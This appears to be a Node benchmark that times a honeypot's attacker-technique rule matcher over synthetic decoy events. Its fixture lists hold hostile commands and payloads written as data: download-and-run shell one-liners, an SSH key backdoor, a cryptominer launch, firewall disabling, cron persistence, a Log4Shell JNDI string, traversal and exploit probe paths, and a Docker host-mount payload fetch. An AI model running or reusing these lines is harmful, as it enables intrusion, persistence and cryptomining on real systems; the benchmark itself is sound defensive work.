// TTP rule matching cost per event: the shipped rule pack over a realistic mix of decoy events
// (connections, logins, shell commands, web requests, database and container API calls) from 200
// attackers, each with its own counting state; then the worst case, long attacker-crafted command
// lines. Median of BENCH_RUNS runs (default 3). Run: `node bench/ttp-match.ts`.
import { join } from 'node:path';
import { ROOT, median, table } from './lib/measure.ts';
import { loadTtpEngine } from '../src/intel/ttp/load-engine.ts';
import { createMatcher } from '../src/intel/ttp/matcher.ts';
import type { TtpEvent } from '../src/intel/ttp/types.ts';

const RUNS = Number(process.env.BENCH_RUNS ?? 3);
const EVENTS = Number(process.env.BENCH_EVENTS ?? 100_000);
const ATTACKERS = 200;

const COMMANDS = [
  'uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'ls -la', 'cd /tmp', 'w', 'ps aux', 'id', 'whoami', 'nproc',
  'cat /etc/passwd', 'ifconfig', 'echo hello', 'pwd', 'history', 'crontab -l', 'cat /etc/os-release', 'exit',
  'cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh',
  'curl -s http://203.0.113.9/i.sh | bash', 'echo "ssh-rsa AAAAB3NzaC1yc2E attacker" >> ~/.ssh/authorized_keys',
  'nohup ./xmrig -o stratum+tcp://203.0.113.9:3333 -u x --donate-level 1 &', 'systemctl stop firewalld; setenforce 0',
  'unset HISTFILE; history -c', '(crontab -l; echo "* * * * * /tmp/.x/run") | crontab -', '/bin/busybox ECCHI', 'enable', 'system', 'shell', 'sh',
];
const PATHS = [
  '/', '/index.html', '/favicon.ico', '/robots.txt', '/wp-login.php', '/.env', '/.git/config', '/admin/', '/login', '/phpmyadmin/',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/shell?cd+/tmp;wget+http://203.0.113.9/m;sh+m',
  '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array', '/HNAP1/', '/actuator/health', '/server-status',
];
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36', 'curl/8.5.0', 'Mozilla/5.0 zgrab/0.x', 'python-requests/2.31.0', '${jndi:ldap://203.0.113.9/a}', 'Go-http-client/1.1'];
const SERVICES: [string, number][] = [['ssh', 22], ['telnet', 23], ['http', 80], ['https', 443], ['smb', 445], ['mysql', 3306], ['redis', 6379], ['rdp', 3389], ['ftp', 21], ['docker_api', 2375]];

/** A deterministic pseudo-random generator, so every run sees the same events. */
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 0x1_0000_0000;
  };
}

function makeEvents(n: number): TtpEvent[] {
  const r = rng(42);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(r() * list.length)]!;
  const events: TtpEvent[] = [];
  let t = Date.parse('2026-05-01T00:00:00Z');
  for (let i = 0; i < n; i++) {
    t += 200;
    const ip = `203.0.${113 + (i % ATTACKERS >> 8)}.${(i * 7919) % ATTACKERS}`;
    const decky = `decky-${1 + Math.floor(r() * 8)}`;
    const [service, port] = pick(SERVICES);
    const x = r();
    let ev: TtpEvent;
    if (x < 0.3) ev = { ts: t, decky, service, event: 'connect', attacker_ip: ip, fields: { src_port: String(30000 + i % 30000), dst_port: String(port) } };
    else if (x < 0.4) ev = { ts: t, decky, service, event: 'disconnect', attacker_ip: ip, fields: { duration_ms: '1200', bytes_in: '300' } };
    else if (x < 0.6) {
      ev = {
        ts: t, decky, service, event: 'auth_attempt', attacker_ip: ip,
        fields: { username: pick(['root', 'admin', 'ubuntu', 'pi', 'test', 'oracle']), auth_method: 'password', success: r() < 0.05 ? 'true' : 'false', secret_b64: Buffer.from(pick(['123456', 'admin', 'password', 'root', 'qwerty'])).toString('base64') },
      };
    } else if (x < 0.8) ev = { ts: t, decky, service: r() < 0.8 ? 'ssh' : 'telnet', event: 'command', attacker_ip: ip, fields: { command: pick(COMMANDS), cwd: '/root', user: 'root' } };
    else if (x < 0.95) {
      const path = pick(PATHS);
      const q = path.indexOf('?');
      ev = {
        ts: t, decky, service: 'http', event: 'request', attacker_ip: ip,
        fields: { method: r() < 0.8 ? 'GET' : 'POST', path: q < 0 ? path : path.slice(0, q), ...(q < 0 ? {} : { query: path.slice(q + 1) }), version: 'HTTP/1.1', user_agent: pick(AGENTS), status: '404' },
      };
    } else {
      ev = pick<TtpEvent>([
        { ts: t, decky, service: 'redis', event: 'command', attacker_ip: ip, fields: { command: 'info', argc: '0' } },
        { ts: t, decky, service: 'redis', event: 'config_set', attacker_ip: ip, fields: { param: 'dir', value: '/var/spool/cron', accepted: 'true' } },
        { ts: t, decky, service: 'dns', event: 'query', attacker_ip: ip, fields: { qname: 'version.bind', qtype: 'TXT', qclass: 'CH', transport: 'udp' } },
        { ts: t, decky, service: 'mongodb', event: 'query', attacker_ip: ip, fields: { command: 'listDatabases', db: 'admin' } },
        { ts: t, decky, service: 'docker_api', event: 'container_create', attacker_ip: ip, fields: { image: 'alpine', cmd: '["sh","-c","wget http://203.0.113.9/x"]', binds: '["/:/mnt"]' } },
        { ts: t, decky, service: 'snmp', event: 'request', attacker_ip: ip, fields: { version: '2c', pdu: 'getnext', oids: '1.3.6.1.2.1', community_ok: 'true' } },
      ]);
    }
    events.push(ev);
  }
  return events;
}

/** Long command lines built to make the patterns work: repeated tool names, separators and redirections. */
function adversarialEvents(n: number): TtpEvent[] {
  const units = ['wget ', '> ', 'a'.repeat(40) + ' ', '| sh ', '../', '; ', 'authorized_keys ', '${'];
  return Array.from({ length: n }, (_, i) => ({
    ts: i, decky: 'decky-1', service: 'ssh', event: 'command', attacker_ip: `198.51.100.${i % 250}`,
    fields: { command: units[i % units.length]!.repeat(4096).slice(0, 4096) },
  }));
}

async function run(events: readonly TtpEvent[]): Promise<{ ms: number; tags: number }> {
  const { engine } = await loadTtpEngine({ rulesDir: join(ROOT, 'rules/ttp'), cataloguePath: join(ROOT, 'data/attack/enterprise-18.1.json') });
  const matcher = createMatcher(engine);
  let tags = 0;
  const t0 = performance.now();
  for (const e of events) tags += matcher.match(e).length;
  return { ms: performance.now() - t0, tags };
}

const loadStart = performance.now();
const { engine } = await loadTtpEngine({ rulesDir: join(ROOT, 'rules/ttp'), cataloguePath: join(ROOT, 'data/attack/enterprise-18.1.json') });
const loadMs = performance.now() - loadStart;

const mix = makeEvents(EVENTS);
const hostile = adversarialEvents(2_000);
await run(mix.slice(0, 5_000)); // warm the JIT
const rows: (string | number)[][] = [];
for (const [name, events] of [['realistic mix', mix], ['adversarial 4 KB command lines', hostile]] as const) {
  const results: { ms: number; tags: number }[] = [];
  for (let i = 0; i < RUNS; i++) results.push(await run(events));
  const ms = median(results.map((r) => r.ms));
  rows.push([name, events.length, Math.round(events.length / (ms / 1000)).toLocaleString('en-US'), ((ms * 1000) / events.length).toFixed(2), results[0]!.tags]);
}

process.stdout.write(`\nTTP rule matching: ${engine.rules.length} rules, ${ATTACKERS} attackers, median of ${RUNS} runs (rule pack load: ${loadMs.toFixed(0)} ms, Node ${process.version})\n\n`);
process.stdout.write(table(['events', 'count', 'events/s', 'µs/event', 'tags'], rows));
